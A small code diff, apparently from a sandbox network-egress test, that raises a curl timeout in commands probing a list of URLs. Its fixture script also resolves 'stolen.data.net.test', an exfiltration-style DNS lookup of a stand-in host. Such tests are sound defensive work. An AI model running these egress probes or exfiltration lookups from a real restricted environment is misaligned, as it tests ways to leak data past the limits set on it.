@@ -27,7 +27,7 @@ const REQUESTS = [
 
 const AGENT = REQUESTS.map(
   ([url]) =>
-    `curl --silent --output /dev/null --max-time 5 --write-out '%{http_code} ' '${url}'; echo '${url}'`,
+    `curl --silent --output /dev/null --max-time 30 --write-out '%{http_code} ' '${url}'; echo '${url}'`,
 ).join('\n');
 const FILES = { 'agent.sh': `${AGENT}\ngetent hosts stolen.data.net.test\ntrue\n` };
 
